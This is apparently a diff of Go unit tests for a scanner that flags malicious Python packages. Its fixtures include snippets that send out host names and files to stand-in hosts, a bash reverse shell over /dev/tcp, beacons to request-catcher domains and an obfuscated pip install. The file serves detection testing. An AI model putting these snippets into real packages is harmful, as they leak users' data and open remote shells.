@@ -92,10 +92,18 @@ var ruleCases = []ruleCase{
 	{"host name sent by discord.py's webhook at install", map[string]string{"setup.py": "import socket\nfrom discord import SyncWebhook\nhook = SyncWebhook.from_url('https://example.invalid/hook')\nhook.send('up on ' + socket.gethostname())\n"}, "exfiltrates-host-info", Malicious},
 	{"discord.py webhook helper is fine", map[string]string{"p/notify.py": "from discord import SyncWebhook\ndef notify(url, text):\n    SyncWebhook.from_url(url).send(text)\n"}, "", Clean},
 	{"host name sent as a label of a domain passed in", map[string]string{"p/__init__.py": "import socket\ndef beacon(dom):\n    socket.gethostbyname(socket.gethostname() + dom)\nbeacon(input())\n"}, "exfiltrates-host-info", Malicious},
+	{"a configured token set in an Authorization header on import is fine", map[string]string{"p/__init__.py": "import os\nfrom urllib.request import Request, urlopen\nreq = Request('https://api.example.org/v1/index')\nreq.add_header('Authorization', 'Basic ' + os.getenv('P_USER') + ':' + os.getenv('P_PASSWORD'))\nINDEX = urlopen(req).read()\n"}, "", Clean},
+	{"the host name set in a header on import", map[string]string{"p/__init__.py": "import socket\nfrom urllib.request import Request, urlopen\nreq = Request('https://api.example.org/v1/index')\nreq.add_header('X-Client', socket.gethostname())\nurlopen(req)\n"}, "exfiltrates-host-info", Malicious},
+	{"the local host as a lookup's default is fine", map[string]string{"p/net.py": "import socket\ndef address(hostname=None):\n    return socket.getaddrinfo(hostname or socket.gethostname(), 80)[0][4][0]\n"}, "", Clean},
+	{"a profiler's report shown from the working directory is fine", map[string]string{"p/prof.py": "import os, webbrowser\ndef show(name):\n    webbrowser.open(f'file:///{os.getcwd()}/{name}')\n"}, "", Clean},
+	{"the working directory sent by opening a browser on import", map[string]string{"p/__init__.py": "import os, webbrowser\nwebbrowser.open(f'https://example.invalid/c?d={os.getcwd()}')\n"}, "exfiltrates-host-info", Malicious},
 	{"host name sent as a DNS label on import", map[string]string{"p/__init__.py": "import socket\nthis_host = socket.gethostname()\nsocket.gethostbyname(this_host + '.x.example.invalid')\n"}, "exfiltrates-host-info", Malicious},
 	// exfiltrates-files
 	{"session file uploaded on import", map[string]string{"p/__init__.py": "import requests\nwith open('/data/session.db', 'rb') as fh:\n    requests.post('https://example.invalid/c', files={'f': fh})\n"}, "exfiltrates-files", Malicious},
 	{"upload method of an SDK is runtime", map[string]string{"p/api.py": "import requests\ndef upload(path):\n    return requests.post('https://example.invalid/u', data=open(path, 'rb').read())\n"}, "exfiltrates-files", Clean},
+	// reverse-shell
+	{"bash wired to /dev/tcp by descriptors", map[string]string{"p/util.py": "import subprocess\ndef connect(h, p):\n    subprocess.call(['bash', '-c', 'exec 5<>/dev/tcp/%s/%s; cat <&5 | while read l; do $l 2>&5 >&5; done' % (h, p)])\n"}, "reverse-shell", Malicious},
+	{"a port probe writing to /dev/tcp is fine", map[string]string{"p/addr.py": "def port_reachable(run, host, port):\n    return run(\"timeout 1 bash -c 'cat < /dev/null > /dev/tcp/%s/%s'\" % (host, port)).rc == 0\n"}, "", Clean},
 	// exfil-channel
 	{"request catcher with network", map[string]string{"setup.py": "import urllib.request\nurllib.request.urlopen('https://abc123.oastify.com/x')\n"}, "exfil-channel", Malicious},
 	{"browser opened on a request catcher at install", map[string]string{"setup.py": "import uuid, webbrowser\nfrom setuptools import setup\nwebbrowser.open_new_tab('https://q7x2.oast.cz/?id=' + str(uuid.uuid4()))\nsetup(name='p')\n"}, "exfil-channel", Malicious},
@@ -121,6 +129,7 @@ var ruleCases = []ruleCase{
 	{"program run at install", map[string]string{"setup.py": "import os\nos.system('start payload.exe')\n"}, "suspicious-command", Suspicious},
 	{"compiler at install is fine", map[string]string{"setup.py": "import os\nos.system('gcc -O2 -c ext.c')\n"}, "", Clean},
 	{"who-am-I at install", map[string]string{"setup.py": "import os\nfrom setuptools import setup\nos.system('whoami')\nsetup(name='p')\n"}, "suspicious-command", Suspicious},
+	{"local addresses listed with ifconfig on import are fine", map[string]string{"p/__init__.py": "import subprocess\ndef _ips():\n    return subprocess.check_output(['ifconfig']).decode().split()\nLOCAL_IPS = _ips()\n"}, "", Clean},
 	{"the machine's architecture asked at install is fine", map[string]string{"setup.py": "import subprocess\nfrom setuptools import setup\narch = subprocess.check_output(['uname', '-m']).decode().strip()\nsetup(name='p', version='1.0+' + arch)\n"}, "", Clean},
 	// pip-install-at-runtime
 	{"obfuscated pip install", map[string]string{"setup.py": "from pip import main\nmain(['install', ''.join(map(getattr(__builtins__, 'c'+'hr'), [114, 113]))[::-1]])\n"}, "pip-install-at-runtime", Malicious},
@@ -297,7 +306,8 @@ func TestLookAlikeIdentifiers(t *testing.T) {
 		want      Verdict
 	}{
 		{"fullwidth exec", "import base64\n\uff45\uff58\uff45\uff43(base64.b64decode(DATA))\n", Malicious},
-		{"Cyrillic o in a name", "def l\u043eader():\n    return 1\n", Suspicious},
+		{"Cyrillic o in a name run on import", "def l\u043eader():\n    return 1\nl\u043eader()\n", Suspicious},
+		{"Cyrillic C typed into a class name of runtime code", "class LbAddIpPortMapping\u0421ommand:\n    def run(self):\n        return 1\n", Clean},
 		{"zero-width space in code", "x = 1\u200b\n", Suspicious},
 		{"zero-width joiner in an emoji string", "FAMILY = '\U0001F468\u200d\U0001F469'\n", Clean},
 		{"Chinese identifiers are a language", "\u6570\u636e = [1, 2]\n", Clean},
@@ -305,7 +315,12 @@ func TestLookAlikeIdentifiers(t *testing.T) {
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
-			r := sdist(t, map[string]string{"p/util.py": tt.src})
+			// __init__.py runs on import; util.py only when called.
+			file := "p/util.py"
+			if strings.Contains(tt.name, "on import") {
+				file = "p/__init__.py"
+			}
+			r := sdist(t, map[string]string{file: tt.src})
 			if r.Verdict != tt.want {
 				t.Errorf("verdict %s, want %s: %+v", r.Verdict, tt.want, r.Findings)
 			}
